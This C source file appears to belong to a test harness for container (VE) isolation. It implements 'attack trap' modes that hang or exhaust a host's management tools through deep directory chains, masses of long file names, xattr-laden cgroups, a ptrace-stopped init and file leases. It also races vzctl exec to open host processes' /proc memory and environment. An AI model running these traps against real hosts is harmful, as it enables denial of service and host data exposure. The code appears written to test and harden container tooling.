// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Traps for the tools of the host: a VE is brought into a state in which one of
 * them could wait without end, or use up something. What must go on does, in
 * the background; the caller gets "set" when the trap is there.
 *
 * usage: attack trap NAME [NUMBER|FILE...]
 */
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include "attack.h"

/* The rest of the caller runs on its own; its parent ends with "set". */
static void stay(void)
{
	int ready[2];
	char c;

	must(!pipe(ready));
	if (fork()) {
		close(ready[1]);
		must(read(ready[0], &c, 1) == 1);
		puts("set");
		exit(0);
	}
	setsid();
	dup2(ready[1], 9);
}

static void is_set(void)
{
	int null = open("/dev/null", O_RDWR);

	must(write(9, "s", 1) == 1);
	for (int i = 0; i < 3; i++)
		dup2(null, i);
	close_range(3, ~0U, 0);
}

/* Each new folder takes the chain in, so that no path and no memory grows with it. */
static void trap_deep(int nr)
{
	must(!mkdir("/deep", 0700) && !chdir("/deep"));
	must(!mkdir("c", 0700));
	for (int i = 1; i < nr; i++)
		must(!mkdir("n", 0700) && !rename("c", "n/c") && !rename("n", "c"));
	puts("set");
}

static void trap_names(int nr)
{
	char path[300];

	must(!mkdir("/names", 0700) && !chdir("/names"));
	for (int i = 0; i < nr; i++) {
		int fd;

		snprintf(path, sizeof(path), "%0255d", i);
		fd = open(path, O_WRONLY | O_CREAT, 0600);
		must(fd >= 0);
		close(fd);
	}
	puts("set");
}

/* Deeper than a path can tell, with as many attributes as there may be. */
static void trap_cgroups(int nr)
{
	static char value[1000], name[256];

	memset(name, 'g', 250);
	memset(value, 'v', sizeof(value));
	must(!chdir("/sys/fs/cgroup"));
	for (int i = 0; i < nr; i++) {
		must(!mkdir(name, 0755) && !chdir(name));
		for (int x = 0; x < 100; x++) {
			char key[32];

			snprintf(key, sizeof(key), "user.%d", x);
			if (setxattr(".", key, value, sizeof(value), 0))
				break;
		}
	}
	puts("set");
}

static void trap_stopped(void)
{
	int status;

	stay();
	must(!ptrace(PTRACE_SEIZE, 1, 0, 0) && !ptrace(PTRACE_INTERRUPT, 1, 0, 0));
	must(waitpid(1, &status, __WALL) == 1);
	is_set();
	for (;;)
		pause();
}

/* Whoever opens one of the files waits; what is broken is taken again. */
static void trap_leases(int n, char **file)
{
	int fd[16];

	must(n <= 16);
	stay();
	signal(SIGIO, SIG_IGN);
	for (int i = 0; i < n; i++) {
		fd[i] = open(file[i], O_RDWR);
		must(fd[i] >= 0 && !fcntl(fd[i], F_SETLEASE, F_WRLCK));
	}
	must(write(9, "s", 1) == 1);
	close(9);
	for (;;) {
		usleep(100000);
		for (int i = 0; i < n; i++)
			if (fcntl(fd[i], F_GETLEASE) != F_WRLCK)
				fcntl(fd[i], F_SETLEASE, F_WRLCK);
	}
}

static bool is_joiner(int pid)
{
	char path[64], comm[32] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, comm, sizeof(comm) - 1) < 0)
		comm[0] = '\0';
	close(fd);
	return !strncmp(comm, "vz", 2);
}

/*
 * Whether process @pid of the host's tools, on its way into the VE, lets itself be looked into.
 * Once it is a program of the VE it may be: so it is asked again who it is, behind each success.
 */
static int joiner_opens(int pid)
{
	static const char *const file[] = { "exe", "mem", "environ", "maps", "root/etc", "cwd/." };
	char path[64];
	int opened = 0, fd;

	if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
		opened += is_joiner(pid);
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	for (size_t i = 0; i < sizeof(file) / sizeof(*file); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, file[i]);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		close(fd);
		if (is_joiner(pid)) {
			dprintf(1, "opened %s\n", path);
			opened++;
		}
	}
	return opened;
}

/* Until /joiner.stop is there: who comes in by vzctl exec is looked at before he is a program of
 * the VE. */
static void trap_joiner(void)
{
	int seen = 0, opened = 0, fd;

	stay();
	is_set();
	fd = open("/joiner", O_WRONLY | O_CREAT | O_TRUNC, 0600);
	must(fd >= 0 && dup2(fd, 1) == 1);
	for (int last = getpid(); access("/joiner.stop", F_OK); )
		for (int pid = last; pid < last + 40; pid++) {
			if (kill(pid, 0))
				continue;
			last = pid;
			if (!is_joiner(pid))
				continue;
			seen++;
			opened += joiner_opens(pid);
			dprintf(1, "seen %d\n", seen);
		}
	dprintf(1, "end %d %d\n", seen, opened);
	_exit(0);
}

int trap(int argc, char **argv)
{
	int nr = argc > 1 ? atoi(argv[1]) : 0;

	if (!strcmp(argv[0], "deep"))
		trap_deep(nr);
	else if (!strcmp(argv[0], "names"))
		trap_names(nr);
	else if (!strcmp(argv[0], "cgroups"))
		trap_cgroups(nr);
	else if (!strcmp(argv[0], "stopped"))
		trap_stopped();
	else if (!strcmp(argv[0], "joiner"))
		trap_joiner();
	else if (!strcmp(argv[0], "leases"))
		trap_leases(argc - 1, argv + 1);
	else
		return 2;
	return 0;
}
